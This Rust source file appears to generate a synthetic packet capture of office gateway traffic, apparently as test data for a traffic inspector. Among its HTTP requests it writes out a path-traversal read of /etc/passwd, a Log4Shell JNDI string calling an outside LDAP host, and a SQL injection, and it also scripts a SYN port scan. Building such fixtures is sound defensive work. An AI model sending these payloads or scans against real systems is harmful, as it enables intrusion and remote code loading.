//! A minute of traffic at the gateway of a small office: outbound web, DNS, ssh and mail, a ping, IPv6, a VLAN, a fragmented
//! datagram, and a port scan from outside.

use etherparse::TcpHeader;
use towpath_port::{Error, Frame, LinkType, pcap};

use super::dns;
use super::frames::{Host, Path, Random};
use super::tcp::{CLIENT, Connection, SERVER};

/// 2024-05-06 08:00:00 UTC.
const START_NS: u64 = 1_714_982_400_000_000_000;
const MS: u64 = 1_000_000;
const S: u64 = 1_000 * MS;

const GATEWAY_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 0x01];

/// Writes the packets in order of time.
pub(crate) fn write(file: &mut pcap::Writer) -> Result<(), Error> {
    let mut story = Story { frames: Vec::new(), random: Random(1), id: 0 };
    neighbours(&mut story);
    names(&mut story);
    web(&mut story);
    web_of_ipv6(&mut story);
    tls(&mut story);
    ssh(&mut story);
    ping(&mut story);
    printer_on_a_vlan(&mut story);
    scan(&mut story);
    clock(&mut story);

    story.frames.sort_by_key(|(time, _)| *time);
    let mut last = 0;
    for (time, bytes) in &story.frames {
        // Distinct times in whole microseconds.
        last = (time / 1_000).max(last + 1);
        let time_ns = START_NS + last * 1_000;
        let wire_len = bytes.len() as u32;
        file.write(
            Frame {
                bytes,
                wire_len,
                time_ns,
                link: LinkType::ETHERNET,
                interface: 0,
                meta: Default::default(),
            },
            None,
        )?;
    }
    Ok(())
}

struct Story {
    /// Nanoseconds from the start, and the frame.
    frames: Vec<(u64, Vec<u8>)>,
    random: Random,
    id: u16,
}

impl Story {
    fn add(&mut self, time: u64, frame: Vec<u8>) {
        self.frames.push((time, frame));
    }

    fn id(&mut self) -> u16 {
        self.id += 1;
        self.id
    }

    fn port(&mut self) -> u16 {
        self.random.within(49_152..65_536) as u16
    }

    fn noise(&mut self, len: usize) -> Vec<u8> {
        (0..len).map(|_| self.random.next() as u8).collect()
    }
}

/// A host in the office; `n` is the last part of each address.
fn inside(n: u8) -> Host {
    Host::new([0x02, 0, 0, 0, 0x10, n], &format!("192.168.10.{n}"), 64)
}

fn inside6(n: u8) -> Host {
    Host::new([0x02, 0, 0, 0, 0x10, n], &format!("2001:db8:10::{n:x}"), 64)
}

/// A host beyond the gateway.
fn outside(ip: &str) -> Host {
    Host::new(GATEWAY_MAC, ip, 52)
}

/// Last address bytes of the office's clients and servers.
const ALICE: u8 = 21;
const BOB: u8 = 22;
const CAROL: u8 = 23;
const SHELL: u8 = 5;
const RESOLVER: u8 = 53;

/// A TCP connection and the clock that both ends share.
struct Tcp<'a> {
    story: &'a mut Story,
    now: u64,
    rtt: u64,
    connection: Connection,
}

impl<'a> Tcp<'a> {
    /// The handshake.
    fn open(story: &'a mut Story, now: u64, forward: Path, port: u16, rtt: u64) -> Self {
        let ports = (story.port(), port);
        let seq = [story.random.next() as u32, story.random.next() as u32];
        let mut tcp = Self { story, now, rtt, connection: Connection::new(forward, ports, seq) };
        tcp.segment(CLIENT, "S", &[]);
        tcp.turn();
        tcp.segment(SERVER, "SA", &[]);
        tcp.turn();
        tcp.segment(CLIENT, "A", &[]);
        tcp
    }

    /// One side sends a message, the other acknowledges it.
    fn say(&mut self, side: usize, message: &[u8]) {
        let mss = self.connection.mss();
        let segments = message.chunks(mss).count();
        for (index, segment) in message.chunks(mss).enumerate() {
            self.now += self.story.random.within(20..90) * 1_000;
            self.segment(side, if index + 1 == segments { "PA" } else { "A" }, segment);
        }
        self.turn();
        self.segment(1 - side, "A", &[]);
    }

    /// `side` closes first.
    fn close(mut self, side: usize) {
        self.now += self.story.random.within(1..40) * MS;
        self.segment(side, "FA", &[]);
        self.turn();
        self.segment(1 - side, "FA", &[]);
        self.turn();
        self.segment(side, "A", &[]);
    }

    fn turn(&mut self) {
        let jitter = self.story.random.within(0..self.rtt / 8);
        self.now += self.rtt / 2 + jitter;
    }

    fn segment(&mut self, side: usize, flags: &str, payload: &[u8]) {
        let id = self.story.id();
        let frame = self.connection.segment(id, side, flags, payload);
        self.story.add(self.now, frame);
    }
}

/// ARP, router and neighbour discovery.
fn neighbours(story: &mut Story) {
    let gateway = Host::new(GATEWAY_MAC, "192.168.10.1", 64);
    for (at, n) in [(5 * MS, ALICE), (900 * MS, BOB), (1_700 * MS, CAROL), (30 * S, SHELL)] {
        let ask = Path::new(inside(n), gateway);
        story.add(at, ask.arp(1));
        story.add(at + MS / 3, ask.reverse().arp(2));
    }

    // RFC 4861: the hop limit is 255. An advertisement of a router and a solicitation go to multicast groups.
    let router = Host::new(GATEWAY_MAC, "fe80::1", 255);
    let everyone = Host::new([0x33, 0x33, 0, 0, 0, 1], "ff02::1", 255);
    let prefix_option = [
        &[3, 4, 64, 0xc0][..],
        &86_400u32.to_be_bytes(),
        &14_400u32.to_be_bytes(),
        &[0; 4],
        &[0x20, 1, 0x0d, 0xb8, 0, 0x10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    ]
    .concat();
    let advertisement = [&[0; 8][..], &[1, 1], &GATEWAY_MAC, &prefix_option].concat();
    story.add(2 * MS, Path::new(router, everyone).icmp(0, 134, 0, [64, 0, 7, 8], &advertisement));

    let asker = Host { ttl: 255, ..inside6(BOB) };
    let target = "2001:db8:10::1".parse::<std::net::Ipv6Addr>().expect("an address").octets();
    let group = Host::new([0x33, 0x33, 0xff, 0, 0, 1], "ff02::1:ff00:1", 255);
    let solicitation = [&target[..], &[1, 1], &asker.mac].concat();
    story.add(8_900 * MS, Path::new(asker, group).icmp(0, 135, 0, [0; 4], &solicitation));
    let answer = [&target[..], &[2, 1], &GATEWAY_MAC].concat();
    let gateway6 = Host::new(GATEWAY_MAC, "2001:db8:10::1", 255);
    story.add(8_901 * MS, Path::new(gateway6, asker).icmp(0, 136, 0, [0xe0, 0, 0, 0], &answer));
}

/// DNS queries to the office's resolver; one answer is fragmented.
fn names(story: &mut Story) {
    let names =
        ["www.example.com", "mail.example.com", "news.example.org", "shop.example.net", "intranet.example"];
    for index in 0..24u64 {
        let who = [ALICE, BOB, CAROL][index as usize % 3];
        let path = Path::new(inside(who), inside(RESOLVER));
        let (port, query) = (story.port(), story.random.next() as u16);
        let name = names[story.random.within(0..names.len() as u64) as usize];
        let at = index * 2_400 * MS + story.random.within(0..900) * MS;
        let (id, answer_id) = (story.id(), story.id());
        story.add(at, path.udp(id, (port, 53), &dns::message(query, name, &[])));
        let answer = dns::message(query, name, &[[203, 0, 113, 80]]);
        let later = story.random.within(300..9_000) * 1_000;
        story.add(at + later, path.reverse().udp(answer_id, (53, port), &answer));
    }

    let path = Path::new(inside(CAROL), inside(RESOLVER));
    let (port, query) = (story.port(), story.random.next() as u16);
    let (id, answer_id) = (story.id(), story.id());
    story.add(33 * S, path.udp(id, (port, 53), &dns::message(query, "pool.example.org", &[])));
    let many: Vec<[u8; 4]> = (0..220).map(|n| [198, 18, 0, n]).collect();
    let fragments =
        path.reverse().udp_fragments(answer_id, (53, port), &dns::message(query, "pool.example.org", &many));
    for (index, fragment) in fragments.into_iter().enumerate() {
        story.add(33 * S + 4 * MS + index as u64 * 12_000, fragment);
    }
}

/// Request line, further header, body. Some contain the word that the inspector searches.
#[rustfmt::skip]
const REQUESTS: [(&str, &str, &str); 20] = [
    ("GET / HTTP/1.1",                                "", ""),
    ("GET /style.css HTTP/1.1",                       "", ""),
    ("GET /logo.png HTTP/1.1",                        "", ""),
    ("POST /login HTTP/1.1",                          "Content-Type: application/x-www-form-urlencoded", "user=alice&password=correct+horse"),
    ("GET /news?page=2 HTTP/1.1",                     "", ""),
    ("GET /search?q=canal+boats HTTP/1.1",            "", ""),
    ("GET /../../../../etc/passwd HTTP/1.1",          "", ""),
    ("GET /images/lock.jpg HTTP/1.1",                 "", ""),
    ("POST /api/orders HTTP/1.1",                     "Content-Type: application/json", "{\"item\":\"rope\",\"metres\":40}"),
    ("GET /api/orders/17 HTTP/1.1",                   "", ""),
    ("GET /account?user=bob&password=hunter2 HTTP/1.1", "", ""),
    ("GET /fonts/serif.woff2 HTTP/1.1",               "", ""),
    ("GET /status HTTP/1.1",                          "X-Forwarded-For: ${jndi:ldap://198.51.100.66/a}", ""),
    ("HEAD / HTTP/1.1",                               "", ""),
    ("POST /comment HTTP/1.1",                        "Content-Type: application/x-www-form-urlencoded", "text=The+towpath+is+muddy"),
    ("GET /map?zoom=4 HTTP/1.1",                      "", ""),
    ("GET /item?id=1%27%20OR%20%271%27=%271 HTTP/1.1", "", ""),
    ("POST /login HTTP/1.1",                          "Content-Type: application/x-www-form-urlencoded", "user=carol&password=tr0ub4dor"),
    ("GET /feed.xml HTTP/1.1",                        "", ""),
    ("GET /robots.txt HTTP/1.1",                      "", ""),
];

fn request((line, header, body): (&str, &str, &str)) -> Vec<u8> {
    let mut text = format!("{line}\r\nHost: www.example.com\r\nUser-Agent: office/1.0\r\n");
    if !header.is_empty() {
        text += &format!("{header}\r\n");
    }
    if !body.is_empty() {
        text += &format!("Content-Length: {}\r\n", body.len());
    }
    (text + "\r\n" + body).into_bytes()
}

fn response(len: usize) -> Vec<u8> {
    let line = "Boats wait at the lock; the keeper opens the gate, one frame at a time.\n";
    let body: String = line.chars().cycle().take(len).collect();
    format!("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {len}\r\n\r\n{body}").into_bytes()
}

fn web(story: &mut Story) {
    let server = outside("203.0.113.80");
    for (index, &asked) in REQUESTS.iter().enumerate() {
        let who = [ALICE, BOB, CAROL][index % 3];
        let at = 2 * S + index as u64 * 2_700 * MS + story.random.within(0..800) * MS;
        let len = [420, 1_900, 5_200, 120][index % 4];
        let mut tcp = Tcp::open(story, at, Path::new(inside(who), server), 80, 18 * MS);
        tcp.say(CLIENT, &request(asked));
        tcp.now += 7 * MS;
        tcp.say(SERVER, &response(len));
        // Some keep the connection for a second request.
        if index % 5 == 0 {
            tcp.now += 300 * MS;
            tcp.say(CLIENT, &request(("GET /favicon.ico HTTP/1.1", "", "")));
            tcp.say(SERVER, &response(300));
        }
        tcp.close(index % 2);
    }
}

fn web_of_ipv6(story: &mut Story) {
    let server = outside("2001:db8:80::80");
    let asked = [
        ("GET /v6 HTTP/1.1", "", ""),
        ("POST /login HTTP/1.1", "", "user=bob&password=hunter2"),
        ("GET /lock.svg HTTP/1.1", "", ""),
    ];
    for (index, asked) in asked.into_iter().enumerate() {
        let at = 9 * S + index as u64 * 16 * S;
        let mut tcp = Tcp::open(story, at, Path::new(inside6(BOB), server), 80, 22 * MS);
        tcp.say(CLIENT, &request(asked));
        tcp.say(SERVER, &response(2_000));
        tcp.close(SERVER);
    }
    let path = Path::new(inside6(ALICE), server);
    for sequence in 0..3u8 {
        let at = 21 * S + u64::from(sequence) * S;
        story.add(at, path.icmp(0, 128, 0, [0, 9, 0, sequence], &[b'6'; 56]));
        story.add(at + 22 * MS, path.reverse().icmp(0, 129, 0, [0, 9, 0, sequence], &[b'6'; 56]));
    }
}

/// A TLS record (RFC 8446, 5.1) of noise.
fn record(story: &mut Story, kind: u8, len: usize) -> Vec<u8> {
    let noise = story.noise(len);
    [&[kind, 3, 3][..], &(len as u16).to_be_bytes(), &noise].concat()
}

/// TLS records with random contents.
fn tls(story: &mut Story) {
    const HANDSHAKE: u8 = 22;
    const DATA: u8 = 23;
    for index in 0..8usize {
        let who = [CAROL, ALICE, BOB][index % 3];
        let server = outside(["203.0.113.44", "198.51.100.10"][index % 2]);
        let at = 4 * S + index as u64 * 6_300 * MS;
        let hello = record(story, HANDSHAKE, 508);
        let certificate = record(story, HANDSHAKE, 2_600);
        let finished = record(story, HANDSHAKE, 52);
        let asked = record(story, DATA, 230 + 40 * index);
        let answered = record(story, DATA, 900 + 700 * index);
        let mut tcp = Tcp::open(story, at, Path::new(inside(who), server), 443, 26 * MS);
        tcp.say(CLIENT, &hello);
        tcp.say(SERVER, &certificate);
        tcp.say(CLIENT, &finished);
        tcp.say(CLIENT, &asked);
        tcp.say(SERVER, &answered);
        tcp.close(CLIENT);
    }
}

/// An ssh session from Alice to a server outside, and one from outside to the office's shell server.
fn ssh(story: &mut Story) {
    let sessions = [
        (6 * S, Path::new(inside(ALICE), outside("203.0.113.22")), 14),
        (27 * S, Path::new(outside("198.51.100.7"), inside(SHELL)), 6),
    ];
    for (at, path, keys) in sessions {
        let exchange = story.noise(1_100);
        let typed: Vec<_> = (0..keys).map(|_| (story.noise(36), story.noise(52))).collect();
        let mut tcp = Tcp::open(story, at, path, 22, 30 * MS);
        tcp.say(SERVER, b"SSH-2.0-OpenSSH_9.6\r\n");
        tcp.say(CLIENT, b"SSH-2.0-OpenSSH_9.6\r\n");
        tcp.say(CLIENT, &exchange);
        tcp.say(SERVER, &exchange[..900]);
        for (key, echo) in typed {
            tcp.now += 1_200 * MS;
            tcp.say(CLIENT, &key);
            tcp.say(SERVER, &echo);
        }
        tcp.close(CLIENT);
    }
}

fn ping(story: &mut Story) {
    let path = Path::new(inside(BOB), outside("203.0.113.80"));
    for sequence in 0..5u8 {
        let at = 12 * S + u64::from(sequence) * S;
        let (id, answer_id) = (story.id(), story.id());
        story.add(at, path.icmp(id, 8, 0, [0x12, 0x34, 0, sequence], &[b'p'; 56]));
        story.add(at + 17 * MS, path.reverse().icmp(answer_id, 0, 0, [0x12, 0x34, 0, sequence], &[b'p'; 56]));
    }
}

/// The printer lives on VLAN 20 and fetches its firmware.
fn printer_on_a_vlan(story: &mut Story) {
    let printer = Host::new([0x02, 0, 0, 0, 0x20, 9], "192.168.20.9", 64);
    let path = Path { vlan: Some(20), ..Path::new(printer, outside("203.0.113.80")) };
    let mut tcp = Tcp::open(story, 18 * S, path, 80, 18 * MS);
    tcp.say(CLIENT, &request(("GET /firmware/latest HTTP/1.1", "", "")));
    tcp.say(SERVER, &response(9_000));
    tcp.close(SERVER);
}

/// One source, many ports; the shell server refuses some of them itself.
fn scan(story: &mut Story) {
    let ports: [u16; 30] = [
        21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 465, 587, 993, 995, 1433, 1521, 2049,
        3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 9200, 27017,
    ];
    let path = Path::new(outside("198.51.100.66"), inside(SHELL));
    let from = story.port();
    for (index, port) in ports.into_iter().enumerate() {
        let at = 40 * S + index as u64 * 45 * MS;
        let seq = story.random.next() as u32;
        let mut probe = TcpHeader::new(from, port, seq, 1_024);
        probe.syn = true;
        let id = story.id();
        story.add(at, path.tcp(id, probe, &[]));
        if index % 3 == 0 {
            let mut refusal = TcpHeader::new(port, from, 0, 0);
            (refusal.rst, refusal.ack) = (true, true);
            refusal.acknowledgment_number = seq.wrapping_add(1);
            let id = story.id();
            story.add(at + MS, path.reverse().tcp(id, refusal, &[]));
        }
    }
}

/// NTP requests and answers (RFC 5905).
fn clock(story: &mut Story) {
    let path = Path::new(inside(SHELL), outside("203.0.113.123"));
    for at in [3 * S, 35 * S] {
        let (id, answer_id) = (story.id(), story.id());
        let mut message = [0; 48];
        message[0] = 0x23; // version 4, client
        story.add(at, path.udp(id, (123, 123), &message));
        message[0] = 0x24; // version 4, server
        message[1] = 2;
        story.add(at + 12 * MS, path.reverse().udp(answer_id, (123, 123), &message));
    }
}
